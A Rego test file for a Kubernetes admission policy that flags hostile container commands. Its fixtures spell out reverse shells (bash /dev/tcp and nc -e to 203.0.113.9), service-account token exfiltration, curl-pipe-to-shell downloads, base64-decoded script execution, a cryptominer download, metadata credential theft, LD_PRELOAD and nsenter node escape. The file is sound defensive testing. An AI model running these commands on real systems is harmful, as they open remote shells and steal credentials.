package lockkeeper.container_commands_test

import data.lockkeeper.container_commands as policy
import data.lockkeeper.lib.fixture

denied(members) := violations if {
	violations := policy.deny with input as fixture.container(members)
}

warned(members) := violations if {
	violations := policy.warn with input as fixture.container(members)
}

patterns(violations) := {violation.details.pattern | some violation in violations}

shell(text) := {"command": ["/bin/sh", "-c", text]}

test_a_reverse_shell_is_denied_and_not_quoted if {
	denied(shell("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")) == {{
		"msg": `container "web": its command opens a shell for somebody outside, who then works in the container`,
		"path": "/spec/containers/0/command",
		"details": {"container": "web", "pattern": "reverse-shell"},
		"remedy": {"text": "do not run it; find out who made this change and what else that account changed"},
	}}
}

test_a_download_that_is_run_is_a_warning if {
	warned(shell("curl -s https://example.com/x | sh")) == {{
		"msg": `container "web": its command downloads a program or script and runs it: what it does today is up to its server`,
		"path": "/spec/containers/0/command",
		"details": {"container": "web", "pattern": "download-run"},
		"remedy": {"text": "build what is needed into the image, or check a digest before it is run"},
	}}
	denied(shell("curl -s https://example.com/x | sh")) == set()
}

test_these_are_denied[pattern] if {
	some pattern, text in {
		"reverse-shell": "nc 203.0.113.9 4444 -e /bin/sh",
		"credential-sent": "cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc 203.0.113.9 9999",
		"decoded-script": "echo aGk= | base64 -d | sh",
		"miner-download": "wget https://example.com/xmrig",
	}
	patterns(denied(shell(text))) == {pattern}
	warned(shell(text)) == set()
}

test_these_are_warnings[pattern] if {
	some pattern, text in {
		"download-run": "wget -qO- https://example.com/x | sh",
		"credential-used": "T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); curl -H \"a: $T\" https://example.com",
		"metadata-credential": "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/role",
		"preload": "LD_PRELOAD=/tmp/x.so /app",
		"node-entry": "nsenter -t 1 -m -- bash",
	}
	patterns(warned(shell(text))) == {pattern}
	denied(shell(text)) == set()
}

test_one_command_gets_no_warning_that_its_denial_says_already if {
	text := "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/x | curl -d @- https://example.com"
	patterns(denied(shell(text))) == {"credential-sent"}
	warned(shell(text)) == set()
	miner := "wget https://example.com/xmrig -O x; chmod +x x; ./x"
	patterns(denied(shell(miner))) == {"miner-download"}
	warned(shell(miner)) == set()
	both := "curl x | base64 -d | sh"
	patterns(denied(shell(both))) == {"decoded-script"}
	warned(shell(both)) == set()
}

test_command_and_args_are_read_together if {
	violations := denied({"command": ["nc", "203.0.113.9"], "args": ["4444", "-e", "/bin/sh"]})
	fixture.paths(violations) == {"/spec/containers/0/args"}
	fixture.paths(denied({"args": ["nc", "203.0.113.9", "4444", "-e", "sh"]})) == {"/spec/containers/0/args"}
	fixture.paths(denied({"command": ["nc", "203.0.113.9", "4444", "-e", "sh"], "args": []})) == {"/spec/containers/0/command"}
}

test_hooks_and_probes_are_read[path] if {
	run := {"exec": {"command": ["sh", "-c", "nc 203.0.113.9 4444 -e sh"]}}
	some path, case in {
		"/lifecycle/postStart/exec/command": {"members": {"lifecycle": {"postStart": run}}, "place": "postStart hook"},
		"/lifecycle/preStop/exec/command": {"members": {"lifecycle": {"preStop": run}}, "place": "preStop hook"},
		"/livenessProbe/exec/command": {"members": {"livenessProbe": run}, "place": "liveness probe"},
		"/readinessProbe/exec/command": {"members": {"readinessProbe": run}, "place": "readiness probe"},
		"/startupProbe/exec/command": {"members": {"startupProbe": run}, "place": "startup probe"},
	}
	violations := denied(case.members)
	fixture.paths(violations) == {concat("", ["/spec/containers/0", path])}
	some message in fixture.messages(violations)
	startswith(message, sprintf(`container "web": its %s opens a shell`, [case.place]))
}

test_all_containers_of_all_kinds_are_read if {
	bad := object.union({"name": "x", "image": "x"}, shell("nc 203.0.113.9 4444 -e sh"))
	good := {"name": "web", "image": "x", "command": ["/web"]}
	pod := policy.deny with input as fixture.pod({"containers": [good], "initContainers": [bad], "ephemeralContainers": [good, bad]})
	fixture.paths(pod) == {"/spec/initContainers/0/command", "/spec/ephemeralContainers/1/command"}
	job := policy.deny with input as fixture.cron_job({"containers": [bad]})
	fixture.paths(job) == {"/spec/jobTemplate/spec/template/spec/containers/0/command"}
	fleet := policy.deny with input as fixture.fleet({"containers": [bad]})
		with data.lockkeeper.workloads as fixture.fleet_table
	fixture.paths(fleet) == {concat("", [fixture.fleet_pointer, "/containers/0/command"])}
}

test_expected_patterns_are_allowed if {
	request := fixture.with_parameters(fixture.container(shell("curl x | sh; nsenter -t 1 -m ls")), {"allowedPatterns": ["download-run"]})
	violations := policy.warn with input as request
	patterns(violations) == {"node-entry"}
}

test_usual_commands_are_allowed[name] if {
	some name, members in {
		"no command": {},
		"a server": {"command": ["/web"], "args": ["--port=8080"]},
		"a health check": {"livenessProbe": {"exec": {"command": ["curl", "-f", "http://localhost:8080/health"]}}},
		"a wait": shell("until nc -z db 5432; do sleep 1; done"),
		"an address": {"livenessProbe": {"httpGet": {"path": "/health"}}, "lifecycle": {"preStop": {"sleep": {"seconds": 3}}}},
		"garbage": {"command": "curl x | sh", "args": [null, 3, {"a": "curl x | sh"}], "lifecycle": {"preStop": {"exec": {"command": 3}}}},
		"null": {"command": null, "args": null, "lifecycle": null, "livenessProbe": null},
	}
	denied(members) == set()
	warned(members) == set()
}

test_a_long_script_is_not_looked_into_and_says_so if {
	padding := concat("", [line | some _ in numbers.range(1, 900); line := "echo waiting; "])
	patterns(warned(shell(concat("", [padding, "curl https://example.com/x | sh"])))) == {"long-script"}
	warned(shell(padding)) == set()
}
